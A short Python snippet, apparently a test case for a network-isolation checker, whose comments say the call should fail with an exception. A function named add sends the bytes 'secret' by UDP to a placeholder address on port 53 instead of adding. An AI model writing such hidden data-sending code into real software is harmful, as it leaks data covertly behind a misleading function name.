# one packet, without a connection
# fails: exception
import socket
def add(a, b):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("192.0.2.1", 53)); return 0
